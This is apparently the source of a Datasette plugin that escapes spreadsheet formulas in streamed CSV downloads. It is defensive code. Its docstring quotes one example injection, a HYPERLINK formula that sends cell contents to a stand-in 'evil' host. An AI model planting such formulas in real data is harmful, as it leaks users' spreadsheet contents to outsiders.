"""CSV downloads that a spreadsheet cannot run: a cell starting with = + - @ (or a tab or carriage
return) gets a leading ', as `newsdb export` does. Crawled titles and bodies are written by strangers;
`=HYPERLINK("http://evil/?"&A1)` in a title must show as text, not run when the CSV is opened.

Numbers (-5, +3.2) are left alone. Turn it off for one download with `?_formulas=on`, or for the
whole server with the plugin config ``plugins: {newsdb_csv: {escape_formulas: false}}`` in metadata.

The rows are rewritten as they stream (an ASGI wrapper), so `.csv?_stream=on` of any size stays streamed.
"""
from __future__ import annotations

import codecs
import csv
import io
import re
import urllib.parse

from datasette import hookimpl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


def neutralise(cell: str) -> str:
    if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def complete_records(text: str) -> int:
    """Length of the leading part of text made of whole CSV records: up to the last newline that is
    outside quotes (an even number of " before it; quoted cells may hold newlines)."""
    end = text.rfind("\n")
    while end >= 0 and text.count('"', 0, end) % 2:
        end = text.rfind("\n", 0, end)
    return end + 1


class CsvNeutraliser:
    """Feed the body's chunks in order; each call returns the rewritten whole records so far."""

    def __init__(self):
        self.decoder = codecs.getincrementaldecoder("utf-8")("replace")
        self.pending = ""

    def feed(self, chunk: bytes, final: bool = False) -> bytes:
        text = self.pending + self.decoder.decode(chunk, final)
        cut = len(text) if final else complete_records(text)
        records, self.pending = text[:cut], text[cut:]
        if not records:
            return b""
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\r\n")
        for row in csv.reader(io.StringIO(records, newline="")):
            writer.writerow([neutralise(cell) for cell in row])
        return out.getvalue().encode("utf-8")


def _wanted(datasette, scope) -> bool:
    if scope.get("type") != "http" or not scope.get("path", "").endswith(".csv"):
        return False
    if (datasette.plugin_config("newsdb_csv") or {}).get("escape_formulas") is False:
        return False
    args = urllib.parse.parse_qs(scope.get("query_string", b"").decode("latin-1"))
    return args.get("_formulas", [""])[0] != "on"


@hookimpl
def asgi_wrapper(datasette):
    def wrap(app):
        async def csv_formula_guard(scope, receive, send):
            if not _wanted(datasette, scope):
                return await app(scope, receive, send)
            neutraliser = None

            async def guarded_send(message):
                nonlocal neutraliser
                if message["type"] == "http.response.start" and message["status"] == 200:
                    neutraliser = CsvNeutraliser()  # the length changes: drop Content-Length
                    headers = [(k, v) for k, v in message.get("headers", []) if k.lower() != b"content-length"]
                    message = {**message, "headers": headers}
                elif message["type"] == "http.response.body" and neutraliser:
                    body = neutraliser.feed(message.get("body", b""), final=not message.get("more_body", False))
                    message = {**message, "body": body}
                await send(message)

            await app(scope, receive, guarded_send)

        return csv_formula_guard

    return wrap
